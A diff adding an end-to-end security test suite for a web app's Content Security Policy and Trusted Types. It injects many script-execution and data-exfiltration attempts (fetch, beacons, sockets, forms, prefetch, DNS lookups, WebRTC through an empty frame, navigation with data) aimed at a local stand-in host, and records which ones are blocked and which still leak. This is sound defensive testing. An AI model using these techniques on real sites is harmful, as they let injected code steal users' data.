@@ -1,0 +1,356 @@
+import { readFileSync } from 'node:fs';
+import type { Page, Response } from '@playwright/test';
+import { type Attempts, shipHostileSection } from '../fixtures/hostile-section.ts';
+import { type Outside, startOutside } from '../fixtures/outside.ts';
+import { signIn, DEMO } from '../fixtures/people.ts';
+import { expect, test as base } from '../fixtures/test.ts';
+
+/** What docs/threat-model.md says of a hostile section, each tried by one. */
+const test = base.extend<{
+  outside: Outside;
+  /** Opens the page of a section that has these attempts. */
+  openHostile: (name: string, attempts: Attempts) => Promise<Response | null>;
+}>({
+  outside: async ({}, use) => {
+    const outside = await startOutside();
+    await use(outside);
+    outside.close();
+  },
+  openHostile: async ({ page, request, guard }, use) => {
+    // The browser says of each attempt what is wrong with it.
+    guard.expectConsole(/./);
+    await use(async (name, attempts) => {
+      const { path } = await shipHostileSection(request, name, attempts);
+      const document = await page.goto(path);
+      await page.waitForFunction(() => 'attempt' in globalThis);
+      return document;
+    });
+  },
+});
+
+const element = (tag: string, attributes: string) =>
+  `const element = Object.assign(document.createElement('${tag}'), ${attributes});` +
+  'document.body.append(element);';
+
+const style = (css: string) =>
+  element('style', `{ nonce: document.querySelector('style[nonce]').nonce }`) +
+  `element.append(\`${css}\`);`;
+
+/** What runs code that was not shipped, and the directive that forbids it. */
+const FOREIGN_CODE: readonly [what: string, code: string, directive: string][] = [
+  ['a module of another origin', `await import(outside + '/x.js')`, 'script-src-elem'],
+  ['a module in an address', `await import('data:text/javascript,1')`, 'script-src-elem'],
+  [
+    'a module made of text',
+    `await import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))`,
+    'script-src-elem',
+  ],
+  ['eval', `eval('1')`, 'require-trusted-types-for'],
+  ['new Function', `new Function('return 1')()`, 'require-trusted-types-for'],
+  ['a timer of text', `setTimeout('1')`, 'require-trusted-types-for'],
+  ['innerHTML', `document.body.innerHTML += '<b>x</b>'`, 'require-trusted-types-for'],
+  ['document.write', `document.write('<b>x</b>')`, 'require-trusted-types-for'],
+  ['DOMParser', `new DOMParser().parseFromString('x', 'text/html')`, 'require-trusted-types-for'],
+  ['a frame of text', element('iframe', `{ srcdoc: '<b>x</b>' }`), 'require-trusted-types-for'],
+  [
+    'a handler in an attribute',
+    `document.body.setAttribute('onclick', '1')`,
+    'require-trusted-types-for',
+  ],
+  [
+    'a script element',
+    element('script', `{ src: outside + '/x.js' }`),
+    'require-trusted-types-for',
+  ],
+  ['a script element with text', element('script', `{ text: '1' }`), 'require-trusted-types-for'],
+  [
+    'a script element with a text node',
+    `const element = document.createElement('script'); element.append('1'); document.body.append(element);`,
+    'require-trusted-types-for',
+  ],
+  ['a worker', `new Worker('/x.js')`, 'require-trusted-types-for'],
+  ['a shared worker', `new SharedWorker('/x.js')`, 'require-trusted-types-for'],
+  [
+    'a service worker',
+    `await navigator.serviceWorker.register('/x.js')`,
+    'require-trusted-types-for',
+  ],
+  ['a policy of its own', `trustedTypes.createPolicy('mine', {})`, 'trusted-types'],
+  ['the default policy', `trustedTypes.createPolicy('default', {})`, 'trusted-types'],
+  ['the policy of the shell', `trustedTypes.createPolicy('elbi', {})`, 'trusted-types'],
+  ['a javascript: address', `location.href = 'javascript:1'`, 'script-src-elem'],
+  [
+    'another base',
+    `document.head.append(Object.assign(document.createElement('base'), { href: outside }))`,
+    'base-uri',
+  ],
+];
+
+/** What sends data out without leaving the page, and the directive that forbids it. */
+const WAYS_OUT: readonly [what: string, code: string, directive: string][] = [
+  ['fetch', `await fetch(outside + '/x')`, 'connect-src'],
+  ['fetchLater', `fetchLater(outside + '/x')`, 'connect-src'],
+  [
+    'XMLHttpRequest',
+    `const x = new XMLHttpRequest(); x.open('GET', outside + '/x'); x.send()`,
+    'connect-src',
+  ],
+  ['a beacon', `navigator.sendBeacon(outside + '/x', 'x')`, 'connect-src'],
+  ['an event source', `new EventSource(outside + '/x')`, 'connect-src'],
+  ['a web socket', `new WebSocket(outside.replace('http', 'ws') + '/x')`, 'connect-src'],
+  ['web transport', `new WebTransport(outside.replace('http', 'https') + '/x')`, 'connect-src'],
+  [
+    'the ping of a link',
+    element('a', `{ href: '#x', ping: outside + '/x' }`) + 'element.click()',
+    'connect-src',
+  ],
+  ['a picture', `new Image().src = outside + '/x.png'`, 'img-src'],
+  ['an icon', element('link', `{ rel: 'icon', href: outside + '/x.png' }`), 'img-src'],
+  ['a picture in a style', style('body { background: url(${outside}/x.png) }'), 'img-src'],
+  [
+    'a font',
+    style('@font-face { font-family: x; src: url(${outside}/x.woff2) } body { font-family: x }'),
+    'font-src',
+  ],
+  ['an imported style sheet', style('@import url(${outside}/x.css);'), 'style-src-elem'],
+  [
+    'a style sheet with the nonce of styles',
+    element(
+      'link',
+      `{ rel: 'stylesheet', href: outside + '/x.css', nonce: document.querySelector('style[nonce]').nonce }`,
+    ),
+    'style-src-elem',
+  ],
+  ['a video', element('video', `{ src: outside + '/x.mp4' }`), 'media-src'],
+  ['a frame', element('iframe', `{ src: outside + '/x' }`), 'frame-src'],
+  [
+    'an object',
+    element('object', '{}') + `element.data = outside + '/x'`,
+    'require-trusted-types-for',
+  ],
+  ['a form', element('form', `{ action: outside + '/x' }`) + 'element.submit()', 'form-action'],
+  ['a prefetch', element('link', `{ rel: 'prefetch', href: outside + '/x' }`), 'default-src'],
+  [
+    'a preload',
+    element('link', `{ rel: 'preload', as: 'image', href: outside + '/x.png' }`),
+    'img-src',
+  ],
+  [
+    'a module preload',
+    element('link', `{ rel: 'modulepreload', href: outside + '/x.js' }`),
+    'script-src-elem',
+  ],
+  [
+    'speculation rules',
+    `const element = document.createElement('script'); element.type = 'speculationrules';` +
+      `element.append(JSON.stringify({ prefetch: [{ urls: [outside + '/x'], eagerness: 'immediate' }] }));` +
+      'document.body.append(element);',
+    'require-trusted-types-for',
+  ],
+];
+
+/** What each attempt came to, by its name. */
+async function outcomes(
+  page: Page,
+  attempts: readonly (readonly [string, ...string[]])[],
+  outside: Outside,
+) {
+  const where = { outside: outside.origin, stun: outside.stun };
+  const found: Record<string, string> = {};
+  for (const [what] of attempts) {
+    found[what] = await page.evaluate(([name, at]) => refusalOf(name, at), [what, where] as const);
+  }
+  return found;
+}
+
+/** Whatever was on its way to the outside has come when this has, which the page may do. */
+async function leave(page: Page, outside: Outside): Promise<void> {
+  await page.goto(`${outside.origin}/end`);
+}
+
+const namesOf = (attempts: readonly (readonly [string, string, string])[]) =>
+  Object.fromEntries(attempts.map(([what, , directive]) => [what, directive]));
+const codesOf = (attempts: readonly (readonly [string, string, string])[]): Attempts =>
+  Object.fromEntries(attempts.map(([what, code]) => [what, code]));
+
+test.describe('a hostile section', () => {
+  test('runs nothing that was not shipped', async ({ page, outside, openHostile }) => {
+    await openHostile('hostile-code', codesOf(FOREIGN_CODE));
+    expect(await outcomes(page, FOREIGN_CODE, outside)).toEqual(namesOf(FOREIGN_CODE));
+    await leave(page, outside);
+    expect(outside.requests).toEqual(['/end']);
+  });
+
+  test('sends nothing out from the page', async ({ page, outside, openHostile }) => {
+    await openHostile('hostile-way-out', codesOf(WAYS_OUT));
+    expect(await outcomes(page, WAYS_OUT, outside)).toEqual(namesOf(WAYS_OUT));
+    await leave(page, outside);
+    expect(outside.requests).toEqual(['/end']);
+  });
+
+  test('runs no script of ours that this document does not name', async ({
+    page,
+    outside,
+    openHostile,
+  }) => {
+    await openHostile('hostile-unnamed', {
+      unnamed: `return import(import.meta.url + '?again').then(() => 'ran')`,
+      named: `return import(WORKER).then(() => 'ran')`,
+    });
+    const { origin } = outside;
+    const attemptOf = (name: string) =>
+      page.evaluate(([what, at]) => attempt(what, { outside: at }), [name, origin] as const);
+    expect(await attemptOf('unnamed')).toBe('TypeError');
+    expect(await attemptOf('named')).toBe('ran');
+  });
+
+  test('finds no nonce but that of styles, in the page or in what the browser has kept of it', async ({
+    page,
+    openHostile,
+  }) => {
+    const document = await openHostile('hostile-nonce', {
+      page: `return [...new Set([...document.querySelectorAll('*')].map(({ nonce }) => nonce).filter(Boolean))]`,
+      kept:
+        `return fetch(location.href, { cache: 'only-if-cached', mode: 'same-origin' })` +
+        `.then((answer) => answer.text())`,
+    });
+    const policy = (await document?.headerValue('content-security-policy')) ?? '';
+    const [, style = ''] = /style-src 'nonce-([^']+)'/.exec(policy) ?? [];
+    expect(await page.evaluate(() => attempt('page', {}))).toEqual([style]);
+    expect(await page.evaluate(() => attempt('kept', {}))).toBe('TypeError');
+  });
+
+  test('starts only workers that were shipped, which send nothing out and do not stay', async ({
+    page,
+    outside,
+    openHostile,
+  }) => {
+    await openHostile('hostile-worker', {
+      shipped:
+        `const { workerUrl } = await sdk();` +
+        `const worker = new Worker(workerUrl(WORKER), { type: 'module' });` +
+        `const said = new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data) });` +
+        `worker.postMessage({ outside });` +
+        `return said;`,
+      other: `const { workerUrl } = await sdk(); workerUrl(new URL('/x.js', location.href))`,
+      elsewhere: `const { workerUrl } = await sdk(); workerUrl(new URL(outside + '/x.js'))`,
+      service:
+        `const { workerUrl } = await sdk();` +
+        `await navigator.serviceWorker.register(workerUrl(WORKER), { type: 'module' }); return 'stays'`,
+    });
+    const attemptOf = (name: string) =>
+      page.evaluate(([what, at]) => attempt(what, { outside: at }), [
+        name,
+        outside.origin,
+      ] as const);
+    expect(await attemptOf('shipped')).toBe('refused');
+    expect(await attemptOf('other')).toBe('TypeError');
+    expect(await attemptOf('elsewhere')).toBe('TypeError');
+    expect(await attemptOf('service')).toBe('TypeError');
+    await leave(page, outside);
+    expect(outside.requests).toEqual(['/end']);
+  });
+});
+
+test.describe('a hostile section still can', () => {
+  test('act as the person who looks, and read what they may', async ({ page, openHostile }) => {
+    await signIn(page, DEMO.student);
+    await openHostile('hostile-reader', {
+      account: `return (await (await fetch('/api/auth/login/success')).json()).user.email`,
+      page: `return document.querySelector('header').textContent`,
+      address: `history.pushState(null, '', '/terms'); return location.pathname`,
+    });
+    expect(await page.evaluate(() => attempt('account', {}))).toBe(DEMO.student);
+    expect(await page.evaluate(() => attempt('page', {}))).toContain('Elbi');
+    expect(await page.evaluate(() => attempt('address', {}))).toBe('/terms');
+  });
+
+  for (const [how, code] of [
+    ['by a navigation', `location.href = outside + '/secret'`],
+    [
+      'by a refresh',
+      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + outside + '/secret' }))`,
+    ],
+  ] as const) {
+    test(`leave with data ${how}, which everybody sees`, async ({ page, outside, openHostile }) => {
+      await openHostile(`hostile-${how.split(' ').at(-1)}`, { leave: code });
+      const left = page.waitForURL(`${outside.origin}/secret`);
+      await page.evaluate((at) => void attempt('leave', { outside: at }), outside.origin);
+      await left;
+      expect(outside.requests).toEqual(['/secret']);
+    });
+  }
+
+  test('open a window with data, once somebody clicks', async ({ page, outside, openHostile }) => {
+    await openHostile('hostile-window', {
+      click:
+        element(
+          'button',
+          `{ textContent: 'Win a prize', onclick: () => open(outside + '/clicked') }`,
+        ) + `return 'ready'`,
+    });
+    const at = outside.origin;
+    await page.evaluate((to) => attempt('click', { outside: to }), at);
+    const popup = page.waitForEvent('popup');
+    await page.getByRole('button', { name: 'Win a prize' }).click();
+    await (await popup).waitForURL(`${at}/clicked`);
+    expect(outside.requests).toEqual(['/clicked']);
+  });
+
+  test('say a word in the name of a host, by a connection without a request', async ({
+    page,
+    outside,
+    openHostile,
+  }) => {
+    await openHostile('hostile-frame', { frame: element('iframe', `{ src: outside + '/x' }`) });
+    await page.evaluate((at) => void attempt('frame', { outside: at }), outside.origin);
+    await expect.poll(outside.connections).toBeGreaterThan(0);
+    expect(outside.requests).toEqual([]);
+  });
+
+  test('say a word in the name of a host, by looking it up', async ({
+    playwright,
+    launchOptions,
+    baseURL,
+    request,
+  }, testInfo) => {
+    const { path } = await shipHostileSection(request, 'hostile-look-up', {
+      'look up':
+        element('link', `{ rel: 'dns-prefetch', href: '//secret.test' }`) + `return 'done'`,
+    });
+    const log = testInfo.outputPath('net-log.json');
+    // A profile on disk, as people have: private windows connect to nothing ahead.
+    const context = await playwright.chromium.launchPersistentContext('', {
+      ...launchOptions,
+      ignoreDefaultArgs: ['--disable-background-networking'],
+      args: [`--log-net-log=${log}`],
+      baseURL,
+    });
+    const page = await context.newPage();
+    await page.goto(path);
+    await page.waitForFunction(() => 'attempt' in globalThis);
+    await page.evaluate(() => attempt('look up', {}));
+    // Written while the browser runs.
+    await expect.poll(() => readFileSync(log, 'utf8')).toContain('secret.test');
+    await context.close();
+  });
+
+  test('reach a peer by what an empty frame has, not by what the page has', async ({
+    page,
+    outside,
+    openHostile,
+  }) => {
+    const call = (connection: string) =>
+      `const peer = new ${connection}({ iceServers: [{ urls: stun }] });` +
+      `peer.createDataChannel('x'); await peer.setLocalDescription(); return 'called'`;
+    await openHostile('hostile-peer', {
+      page: call('RTCPeerConnection'),
+      frame: element('iframe', '{}') + call('element.contentWindow.RTCPeerConnection'),
+    });
+    const attemptOf = (name: string) =>
+      page.evaluate(([what, stun]) => attempt(what, { stun }), [name, outside.stun] as const);
+    expect(await attemptOf('page')).toBe('ReferenceError');
+    expect(await attemptOf('frame')).toBe('called');
+    await expect.poll(outside.packets).toBeGreaterThan(0);
+  });
+});
